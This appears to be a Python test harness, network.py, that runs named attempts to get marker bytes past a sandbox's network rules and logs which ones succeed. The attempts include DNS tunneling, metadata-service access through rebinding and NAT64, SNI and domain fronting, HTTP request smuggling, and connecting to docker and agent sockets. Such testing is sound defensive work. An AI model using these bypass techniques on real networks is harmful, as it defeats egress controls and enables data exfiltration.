"""Ways around rules for hosts. Each attack carries a mark of its own; the hosts
that may not have it are those of world.py and the sockets below, which write down
what they get.

network.py attack NAME…: tries them, and says how each ended
network.py names: the names of all
network.py sinks: servers of unix sockets, which write to WORLD/unix
"""
import array
import ctypes
import os
import socket
import ssl
import struct
import sys
import threading
import time

from hellos import OpenSSL, hello, sni

WORLD, HOME = os.environ["WORLD"], os.environ["HOME"]
ONE, TWO, META, LAN = "203.0.113.10", "203.0.113.11", "169.254.169.254", "10.0.0.5"
RAW = 4433  # a port of TLS whose server writes down whatever comes
ODD = 7780  # one of HTTP, though no usual one
AGAIN = 4434  # one whose server asks each client for another ClientHello
SOCKETS = [
    "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock",
    "/run/dbus/system_bus_socket", "/run/user/1000/bus", "/run/systemd/private",
    "/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket",
    "/run/user/1000/gnupg/S.gpg-agent", HOME + "/.gnupg/S.gpg-agent",
    "/run/user/1000/keyring/ssh", HOME + "/.ssh/agent.sock",
    "/run/user/1000/wayland-0", "@/tmp/.X11-unix/X77", "@/tmp/dbus-attack",
]
attacks = {}


def attack(function):
    attacks[function.__name__.replace("_", "-")] = function
    return function


def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    limit = struct.pack("ll", 5, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, limit)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, limit)
    s.connect((host, port))
    return s


def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 3, 0))
    return s


def named(name, port):
    """As a program does: look it up, then connect."""
    found = socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)
    return tcp(*found[0][4])


def get(connection, host, path, extra=""):
    connection.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n"
                       .encode())
    return connection.recv(1000)


def tls(connection, name):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(connection, server_hostname=name)


def question(labels, kind=1):
    return (b"\x12\x34\1\0\0\1\0\0\0\0\0\0" +
            b"".join(bytes([len(x)]) + x for x in labels) + b"\0" +
            struct.pack(">HH", kind, 1))


def ask(labels, kind=1, server=("127.0.0.1", 53)):
    s = udp()
    s.sendto(question(labels, kind), server)
    answer = s.recv(1000)
    return "NXDOMAIN" if answer[3] & 15 == 3 else f"code {answer[3] & 15}"


# -- names ---------------------------------------------------------------------

@attack
def nul_in_a_name(mark):
    return ask([mark + b"\0", b"good", b"test"])


@attack
def nul_in_one_label(mark):
    return ask([mark + b".evil.test\0.good", b"test"])


@attack
def suffix(mark):
    return ask([b"good", b"test", mark, b"evil", b"test"])


@attack
def prefix(mark):
    return ask([mark + b"wild", b"test"])


@attack
def labels(mark):
    return ask([mark, b"evil", b"test"])


@attack
def labels_of_an_allowed_name(mark):
    return ask([mark, b"good", b"test"])


@attack
def labels_in_other_records(mark):
    return [ask([mark, b"evil", b"test"], kind) for kind in (16, 28, 10, 255)]


@attack
def labels_over_tcp(mark):
    query = question([mark, b"evil", b"test"])
    s = tcp(TWO, 53)
    s.sendall(struct.pack(">H", len(query)) + query)
    return s.recv(100)


@attack
def labels_to_another_server(mark):
    return ask([mark, b"evil", b"test"], server=(TWO, 53))


@attack
def bits_in_the_letters_of_a_name(mark):
    """Small and capital ones, four bits a question; the world puts them together."""
    for digit in mark.hex():
        bits = int(digit, 16)
        ask([bytes(c - 32 if bits & 8 >> i else c for i, c in enumerate(b"good")), b"test"])
    return "asked"


@attack
def records_of_allowed_names(mark):
    """Of kinds that carry what they like: TXT, NULL, HTTPS with its ECH keys, SVCB."""
    return [ask([mark, b"wild", b"test"], kind) for kind in (16, 10, 65, 64, 255, 99)]


@attack
def labels_behind_a_question(mark):
    """Bytes that follow, and options of EDNS."""
    query = bytearray(question([b"good", b"test"]))
    query[11] = 1
    option = struct.pack(">HH", 65001, len(mark)) + mark
    query += b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option
    s = udp()
    s.sendto(bytes(query) + mark, ("127.0.0.1", 53))
    return s.recv(100)


@attack
def name_server_of_no_dns(mark):
    """Port 53 of another host, but no question."""
    s = tcp(ONE, 53)
    s.sendall(mark)
    return s.recv(100)


# -- where names lead ----------------------------------------------------------

def leads(name, address):
    def one(mark):
        errors = []
        for connect in (lambda: named(name, 80), lambda: tcp(address, 80)):
            try:
                return get(connect(), name, "/" + mark.decode())
            except OSError as error:
                errors.append(str(error))
        return errors
    return one


attacks["leads-to-metadata"] = leads("meta.bad.test", META)
attacks["leads-to-the-lan"] = leads("lan.bad.test", LAN)
attacks["leads-to-loopback"] = leads("lo.bad.test", "127.0.0.1")
# By other names on the way, of which no rule is.
attacks["leads-to-metadata-by-an-alias"] = leads("alias-meta.bad.test", META)
attacks["leads-to-loopback-by-aliases"] = leads("alias-lo.bad.test", "127.0.0.1")


def leads_by_six(name, address):
    def one(mark):
        errors = []
        for host in (name, address):
            try:
                found = socket.getaddrinfo(host, 80, socket.AF_INET6, socket.SOCK_STREAM)
                s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                s.settimeout(5)
                s.connect(found[0][4])
                return get(s, name, "/" + mark.decode())
            except OSError as error:
                errors.append(str(error))
        return errors
    return one


attacks["leads-to-metadata-by-nat64"] = leads_by_six("nat64.bad.test", "64:ff9b::a9fe:a9fe")
attacks["leads-to-loopback-by-nat64"] = leads_by_six("nat64-lo.bad.test", "64:ff9b::7f00:1")
attacks["leads-to-metadata-by-local-nat64"] = leads_by_six("nat64-own.bad.test", "64:ff9b:1::a9fe:a9fe")
attacks["leads-to-a-link"] = leads_by_six("link.bad.test", "fe80::1%lo")


@attack
def another_host_behind_an_alias(mark):
    """A name may be another's, as those of most services are; what that one is called no rule says."""
    get(named("alias.bad.test", 80), "alias.bad.test", "/aliased")
    return get(named("alias.bad.test", 80), "cdn.evil.test", "/" + mark.decode())


@attack
def rebinding(mark):
    """The first answer leads outside, those that follow inside."""
    for _ in range(3):
        try:
            answer = get(named("rebind.bad.test", 80), "rebind.bad.test", "/x")
        except OSError as error:
            answer = error
    s = tcp(LAN, 80)
    return answer, get(s, "rebind.bad.test", "/" + mark.decode())


@attack
def metadata_in_other_spellings(mark):
    for host in ("2852039166", "0xa9fea9fe", "0251.0376.0251.0376"):
        try:
            s = tcp(socket.getaddrinfo(host, 80, socket.AF_INET)[0][4][0], 80)
            return get(s, META, "/" + mark.decode())
        except OSError as error:
            said = error
    return said


@attack
def v4_mapped(mark):
    s = tcp("::ffff:" + TWO, 80, socket.AF_INET6)
    return get(s, TWO, "/" + mark.decode())


@attack
def by_address_without_a_proxy(mark):
    for name in list(os.environ):
        if name.lower().endswith("_proxy"):
            del os.environ[name]
    return get(tcp(TWO, 80), "evil.test", "/" + mark.decode())


# -- names within --------------------------------------------------------------

def raw(make):
    def one(mark):
        s = named("good.test", RAW)
        for part in make(mark):
            s.sendall(part)
        # To close now would take back what the other side has not read yet.
        s.shutdown(socket.SHUT_WR)
        got = b""
        while more := s.recv(100):
            got += more
        return got
    return one


for name, make in {
    "sni-of-another": lambda m: [hello(sni(b"evil.test"), m)],
    "sni-with-a-nul": lambda m: [hello(sni(b"evil.test\0.good.test"), m)],
    "sni-with-a-suffix": lambda m: [hello(sni(b"good.test.evil.test"), m)],
    "two-sni": lambda m: [hello(sni(b"good.test", b"evil.test"), m)],
    "two-sni-extensions": lambda m: [hello(sni(b"good.test") + sni(b"evil.test"), m)],
    "sni-of-no-bytes": lambda m: [hello(sni(b""), m)],
    "sni-left-out": lambda m: [hello(b"", m)],
    "sni-encrypted": lambda m: [hello(sni(b"good.test") + b"\xfe\x0d\0\4abcd", m)],
    "sni-in-a-second-record": lambda m: [
        hello(sni(b"evil.test"), m)[:3] + b"\0\5" + hello(sni(b"evil.test"), m)[5:10],
        b"\x16\x03\x01" + struct.pack(">H", len(hello(sni(b"evil.test"), m)) - 10) +
        hello(sni(b"evil.test"), m)[10:]],
    "sni-byte-by-byte": lambda m: [
        bytes([x]) for x in hello(sni(b"evil.test"), m)],
    "alert-before-the-hello": lambda m: [b"\x15\x03\x01\0\2\1\0",
                                         hello(sni(b"evil.test"), m)],
    "sslv2-hello": lambda m: [b"\x80\x2e\1\3\1\0\3\0\0\0\x20\0\0\x2f" + m],
    "no-tls-at-all": lambda m: [b"\0\1\2\3" + m],
    "http-on-a-port-of-tls": lambda m: [
        b"GET /" + m + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n"],
}.items():
    attacks[name] = raw(make)


@attack
def sni_of_another_when_asked_again(mark):
    """A server that takes the first hello for nothing asks for a second one."""
    client = OpenSSL(named("good.test", AGAIN))
    client.connect(b"good.test", b"good.test")
    client.get("good.test", "/again")
    client = OpenSSL(named("good.test", AGAIN))
    client.connect(b"good.test", b"other.test")
    return client.get("other.test", "/" + mark.decode())


@attack
def another_host_behind_what_may_be_an_encrypted_name(mark):
    """Where requests are looked into it goes no further, and clients of all kinds send it."""
    client = OpenSSL(named("seen.wild.test", 443), (0xfe0d, b"\0\0\1\0\1\0\0\0\0\1x"))
    client.connect(b"seen.wild.test")
    client.get("seen.wild.test", "/greased")
    return client.get("other.test", "/" + mark.decode())


@attack
def two_hellos_in_one_record(mark):
    first, second = hello(sni(b"good.test"), b"")[5:], hello(sni(b"evil.test"), mark)[5:]
    s = named("good.test", RAW)
    s.sendall(b"\x16\x03\x01" + struct.pack(">H", len(first) + len(second)) + first + second)
    s.shutdown(socket.SHUT_WR)
    return s.recv(100)


@attack
def real_tls_to_a_neighbour(mark):
    s = tls(named("good.test", 443), "other.test")
    return get(s, "other.test", "/" + mark.decode())


@attack
def ticket_of_another_name(mark):
    """A session of TLS that was begun under a name that is allowed, and what came of
    one that is not looked into, where one is."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def again(host, name, session=None):
        return context.wrap_socket(named(host, 443), server_hostname=name, session=session)

    s = again("good.test", "good.test")
    get(s, "good.test", "/ticket")
    said = []
    for host, name in (("good.test", "other.test"), ("seen.wild.test", "seen.wild.test")):
        try:
            said.append(get(again(host, name, s.session), "other.test", "/" + mark.decode()))
        except OSError as error:
            said.append(str(error))
    return said


@attack
def fronting(mark):
    """TLS to one name, the request to another, on a host that is looked into."""
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    return get(s, "other.test", "/" + mark.decode())


@attack
def fronting_in_the_second_request(mark):
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    get(s, "seen.wild.test", "/first")
    return get(s, "other.test", "/" + mark.decode())


@attack
def fronting_by_an_absolute_form(mark):
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    return get(s, "seen.wild.test", "http://other.test/" + mark.decode())


@attack
def connect_within_tls(mark):
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    s.sendall(b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test\r\nX-Mark: " +
              mark + b"\r\n\r\n")
    return s.recv(100)


@attack
def body_before_another_protocol_within_tls(mark):
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    return get(s, "seen.wild.test", "/" + mark.decode(),
               "Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: 4\r\n\r\nbody")


@attack
def path_that_is_denied(mark):
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    return get(s, "seen.wild.test", "/x/%2e%2e/secret/" + mark.decode())


@attack
def path_with_parameters(mark):
    """Java's servers read it without them."""
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    return get(s, "seen.wild.test", "/secret;x/" + mark.decode())


def plain(request):
    def one(mark):
        s = named("good.test", 80)
        s.sendall(request.replace(b"MARK", mark))
        if b"chunked" in request or b"\r" not in request:
            s.shutdown(socket.SHUT_WR)  # there is no answer to wait for
        return s.recv(1000)
    return one


for name, request in {
    "host-of-another": b"GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n",
    "two-hosts": b"GET /MARK HTTP/1.1\r\nHost: good.test\r\nHost: other.test\r\n\r\n",
    "host-folded": b"GET /MARK HTTP/1.1\r\nHost: good.test\r\n X: y\r\nX: other.test\r\n\r\n",
    "host-with-a-nul": b"GET /MARK HTTP/1.1\r\nHost: other.test\0.good.test\r\n\r\n",
    "no-host": b"GET /MARK HTTP/1.0\r\n\r\n",
    "absolute-form": b"GET http://other.test/MARK HTTP/1.1\r\nHost: good.test\r\n\r\n",
    "connect": b"CONNECT MARK.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n",
    "smuggled-by-lengths": b"POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 30\r\n"
                           b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
                           b"GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n",
    "smuggled-by-a-space": b"POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length : 0\r\n\r\n"
                           b"GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n",
    "bare-line-feeds": b"GET /MARK HTTP/1.1\nHost: good.test\n\n",
    "http2-in-the-clear": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK",
    "upgrade-to-http2": b"GET /MARK HTTP/1.1\r\nHost: good.test\r\nUpgrade: h2c\r\n"
                        b"Connection: Upgrade\r\n\r\n",
    "upgrade-to-http2-or-else": b"GET /MARK HTTP/1.1\r\nHost: good.test\r\nUpgrade: websocket, h2c\r\n"
                                b"Connection: Upgrade\r\n\r\n",
    "upgrade-to-http-in-tls": b"GET /MARK HTTP/1.1\r\nHost: good.test\r\nUpgrade: TLS/1.2, HTTP/1.1\r\n"
                              b"Connection: Upgrade\r\n\r\n",
    "body-before-another-protocol": b"POST /MARK HTTP/1.1\r\nHost: good.test\r\nUpgrade: websocket\r\n"
                                    b"Connection: Upgrade\r\nContent-Length: 4\r\n\r\nbody",
    "pipelined": b"GET /fine HTTP/1.1\r\nHost: good.test\r\n\r\n"
                 b"GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n",
}.items():
    attacks[name] = plain(request)


@attack
def words_of_an_answer_that_look_like_another(mark):
    """An earlier answer says that the far end speaks another protocol now."""
    s = named("good.test", 80)
    s.sendall(b"GET /said/ HTTP/1.1\r\nHost: good.test\r\n\r\n")
    while b"\r\n\r\n" not in s.recv(1000):
        pass
    s.sendall(b"GET /no HTTP/1.1\r\nHost: good.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
    got = s.recv(1000)
    return got, get(s, "other.test", "/" + mark.decode())


def odd_port(request):
    """Where there need be no HTTP, but is."""
    def one(mark):
        s = named("good.test", ODD)
        for part in request:
            s.sendall(part.replace(b"MARK", mark))
            time.sleep(0.05)
        return s.recv(1000)
    return one


for name, request in {
    "an-empty-line-before": [b"\r\nGET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-line-feed-before": [b"\n", b"GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-small-method": [b"get /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-method-in-pieces": [b"GE", b"T /MARK HT", b"TP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-small-method-in-pieces": [b"g", b"et", b" / HT",
                                 b"TP/1.1\r\nHost: MARK.other.test\r\n\r\n"],
    "a-small-method-and-a-host-in-pieces": [b"get /MARK HTTP/1", b".1\r\nHo",
                                            b"st: other.test\r\n\r\n"],
    "a-small-method-after-a-long-one": [b"g" * 20000, b" /MARK HTTP/1.1\r\n",
                                        b"Host: other.test\r\n\r\n"],
    "a-small-version": [b"get /MARK http/1.1\r\nHost: other.test\r\n\r\n"],
    "an-odd-method": [b"M-SEARCH /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-long-method": [b"A" * 40 + b" /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-method-and-a-tab": [b"GET\t/MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-blank-before": [b" GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-blank-before-in-pieces": [b"\t", b"GE", b"T / HT", b"TP/1.1\r\nHost: MARK.other.test\r\n\r\n"],
    "a-separator-of-python": [b"GET\x1f/MARK\xa0HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "one-before": [b"\xa0GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "returns-for-blanks": [b"GET\r/MARK\rHTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-control-character-in-the-path": [b"GET\t/MARK\1 HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-proxy's-request-in-small-letters-without-a-version": [b"get http://other.test/MARK\r\n"],
    "that-in-pieces": [b"get ht", b"tp:/", b"/MARK.other.test/\n"],
    "a-proxy's-tunnel-in-small-letters-without-a-version": [b"connect MARK.other.test:443\r\n"],
}.items():
    attacks[name] = odd_port(request)


@attack
def another_host_after_a_beginning_in_pieces(mark):
    s = named("good.test", ODD)
    for part in b"g", b"et /small HT", b"TP/1.1\r\nHost: go", b"od.test\r\n\r\n":
        s.sendall(part)
        time.sleep(0.05)
    got = s.recv(1000)
    return got, get(s, "other.test", "/" + mark.decode())


# -- other ways out ------------------------------------------------------------

@attack
def mptcp(mark):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    s.connect((TWO, 80))
    return get(s, TWO, "/" + mark.decode())


@attack
def fast_open(mark):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.sendto(b"GET /" + mark + b" HTTP/1.1\r\nHost: x\r\n\r\n", 0x20000000, (TWO, 80))
    return s.recv(100)


@attack
def second_of_sendmmsg(mark):
    class Address(ctypes.Structure):
        _fields_ = [("family", ctypes.c_ushort), ("port", ctypes.c_uint16.__ctype_be__),
                    ("host", ctypes.c_uint8 * 4), ("rest", ctypes.c_uint8 * 8)]

    class Part(ctypes.Structure):
        _fields_ = [("at", ctypes.c_char_p), ("length", ctypes.c_size_t)]

    class Message(ctypes.Structure):
        _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32),
                    ("parts", ctypes.c_void_p), ("count", ctypes.c_size_t),
                    ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                    ("flags", ctypes.c_int), ("rest", ctypes.c_int),
                    ("sent", ctypes.c_uint)]

    good = socket.getaddrinfo("good.test", None, socket.AF_INET)[0][4][0]
    addresses = [Address(socket.AF_INET, 9999, (ctypes.c_uint8 * 4)(*socket.inet_aton(a)))
                 for a in (good, TWO)]
    parts = [Part(b"fine", 4), Part(mark, len(mark))]
    messages = (Message * 2)(*[
        Message(ctypes.addressof(a), ctypes.sizeof(a), ctypes.addressof(p), 1)
        for a, p in zip(addresses, parts)])
    s = udp()
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.sendmmsg(s.fileno(), messages, 2, 0), ctypes.get_errno()


@attack
def quic(mark):
    s = udp()
    s.connect((socket.getaddrinfo("good.test", None, socket.AF_INET)[0][4][0], 443))
    s.send(mark)
    return s.recv(100)


@attack
def connected_then_sent_elsewhere(mark):
    s = udp()
    s.connect((socket.getaddrinfo("good.test", None, socket.AF_INET)[0][4][0], 9999))
    s.sendto(mark, (TWO, 9999))
    return s.recv(100)


@attack
def connected_anew(mark):
    """A socket that a rule let connect, taken back and connected elsewhere."""
    s = named("good.test", 80)
    get(s, "good.test", "/fine")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.connect(s.fileno(), struct.pack("H14x", socket.AF_UNSPEC), 16)
    s.connect((TWO, 80))
    return get(s, TWO, "/" + mark.decode())


@attack
def passed_to_another_process(mark):
    """SCM_RIGHTS: a socket is another's business wherever it was made."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    if os.fork() == 0:
        ours.close()
        made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        socket.send_fds(theirs, [b"x"], [made.fileno()])
        os._exit(0)
    theirs.close()
    data, fds, _, _ = socket.recv_fds(ours, 10, 1)
    s = socket.socket(fileno=fds[0])
    s.connect((TWO, 80))
    return get(s, TWO, "/" + mark.decode())


@attack
def ping(mark):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    return s.sendto(b"\x08\0\0\0\0\0\0\0" + mark, (TWO, 0))


@attack
def vsock(mark):
    s = socket.socket(40, socket.SOCK_STREAM)
    with open(os.path.join(WORLD, "unix"), "ab") as file:
        file.write(mark + b"\n")  # that there is one is enough
    return s


@attack
def icmp_raw(mark):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(mark), 1, 0, 64, 17, 0,
                       socket.inet_aton(ONE), socket.inet_aton(TWO))
    return s.sendto(head + struct.pack(">HHHH", 999, 9999, 8 + len(mark), 0) + mark,
                    (TWO, 0))


def sink_attack(path):
    def one(mark):
        s = socket.socket(socket.AF_UNIX)
        s.connect("\0" + path[1:] if path[0] == "@" else path)
        s.sendall(mark)
        return s.recv(10)
    return one


for path in SOCKETS:
    name = path.replace(HOME, "~").replace("/", "-").replace(".", "-").strip("-")
    attacks["socket-" + name.replace("@", "abstract").replace("~-", "home")] = \
        sink_attack(path)


# ------------------------------------------------------------------------------

def sinks():
    def serve(server):
        while True:
            connection, _ = server.accept()
            data = connection.recv(1000)
            with open(os.path.join(WORLD, "unix"), "ab") as file:
                file.write(data + b"\n")
            connection.close()

    for path in SOCKETS:
        server = socket.socket(socket.AF_UNIX)
        if path[0] != "@":
            os.makedirs(os.path.dirname(path), exist_ok=True)
        server.bind("\0" + path[1:] if path[0] == "@" else path)
        server.listen(8)
        threading.Thread(target=serve, args=(server,), daemon=True).start()
    open(os.path.join(WORLD, "sinks"), "w").close()
    threading.Event().wait()


if __name__ == "__main__":
    if sys.argv[1] == "names":
        print("\n".join(attacks))
    elif sys.argv[1] == "sinks":
        sinks()
    else:
        for name in sys.argv[2:] or attacks:
            # Short, and of letters that a name may have.
            mark = b"m%02dx" % list(attacks).index(name)
            try:
                print(name, mark.decode(), "->", attacks[name](mark), flush=True)
            except (OSError, ValueError) as error:
                print(name, mark.decode(), "->", type(error).__name__, error,
                      flush=True)
